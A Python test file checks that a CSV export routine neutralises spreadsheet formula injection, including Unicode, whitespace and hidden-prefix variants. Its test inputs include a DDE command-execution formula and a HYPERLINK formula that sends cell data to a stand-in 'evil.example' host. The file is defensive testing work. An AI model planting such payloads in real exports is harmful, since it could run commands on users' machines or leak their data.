"""Cells of CSV files: nothing in them begins a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, strategies as some

from topicproof.app.shell.downloads import as_csv, as_raw_csv
from topicproof.backend.characters import defused, is_formula
from topicproof.backend.evidence.findings import CSV, PARQUET, SCHEMA, gather, write_csv

FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    *("+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u3000=1"),
    *("'=1", '"=1', "`=1", "“=1", "‘=1", "«=1", "\ufeff=1", "\u200b=1", "\x00=1", "\x1b=1"),
    *(
        "＝1",
        "＋1",
        "－1+1",
        "＠SUM(1)",
        "﹦1",
        "﹢1",
        "﹣1+1",
        "﹫a",
        "⁼1",
        "−1+1",
        " \" '=1",
        "-",
        "--5",
    ),
)
TEXTS = (
    "",
    "a=1",
    "squares",
    "5",
    "-5",
    "+5",
    "-5.25",
    "-1e-3",
    "[-1]",
    "(=1)",
    "p0",
    "…=1",
    "ä=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_and_a_number_stay(text: str) -> None:
    assert defused(text) == text


JUNK = " \t\r\n'\"`“«\u00a0\u200b\ufeff\x00\x1f=+-@＝－,;a5"


@given(some.lists(some.text(JUNK, max_size=6), min_size=1, max_size=5))
def test_no_cell_of_any_file_begins_a_formula(texts: list[str]) -> None:
    """Story: whatever is in the records, and whatever separates cells for a spreadsheet: no cell
    begins like a formula. Numbers are written as numbers, and `raw` writes the texts unchanged."""
    frame = pd.DataFrame({"=title": texts, "n": [-5] * len(texts)})
    header, *rows = csv.reader(io.StringIO(as_csv(frame).decode(), newline=""))
    assert header == ["'=title", "n"] and [row[1] for row in rows] == ["-5"] * len(texts)
    assert [row[0] for row in rows] == [defused(text) for text in texts]
    assert not any(row[0][:1] in set("=+@\t\r\n＝－") for row in rows)
    raw = list(csv.reader(io.StringIO(as_raw_csv(frame).decode(), newline="")))
    assert [row[0] for row in raw[1:]] == texts


def rows_of(path: Path) -> csv.DictReader[str]:
    return csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""))


@pytest.mark.parametrize("blank", [" ", "'", "\u2003", "\u200b"])
def test_a_cell_of_a_million_blanks_holds_up_no_download(blank: str) -> None:
    """Story: somebody writes records of nothing but blanks, or hides a formula behind them. What
    is before a formula does not save it, however long it is."""
    assert is_formula(f"{blank * 10**6}=HYPERLINK()")
    assert is_formula(f"{blank * 900}=HYPERLINK()")
    assert not is_formula(f"{blank * 900}text")


def test_no_row_of_findings_begins_a_formula(tmp_path: Path) -> None:
    """Story: a producer names its transaction like a formula. The findings in the evidence, as a
    file for spreadsheets, show it as a text; earlier versions wrote it as it was."""
    columns: dict[str, list[str | None]] = {
        field.name: [None] * (len(FORMULAS) + 1) for field in SCHEMA
    }
    columns |= {"kind": ["gap"] * (len(FORMULAS) + 1), "transaction": [*FORMULAS, "a/1/1"]}
    ledger, evidence = tmp_path / "ledger", tmp_path / "evidence"
    (ledger / "findings-gap").mkdir(parents=True)
    evidence.mkdir()
    pq.write_table(pa.table(columns, SCHEMA), ledger / "findings-gap" / "part.parquet")
    gather(ledger, evidence)
    cells = [row["transaction"] for row in rows_of(evidence / CSV)]
    assert cells == [*(f"'{text}" for text in FORMULAS), "a/1/1"]
    assert not is_formula(cells[-1])
    write_csv(evidence / PARQUET, tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == (evidence / CSV).read_bytes()
    write_csv(evidence / PARQUET, tmp_path / "raw.csv", raw=True)
    raw = [row["transaction"] for row in rows_of(tmp_path / "raw.csv")]
    assert raw == [*FORMULAS, "a/1/1"]
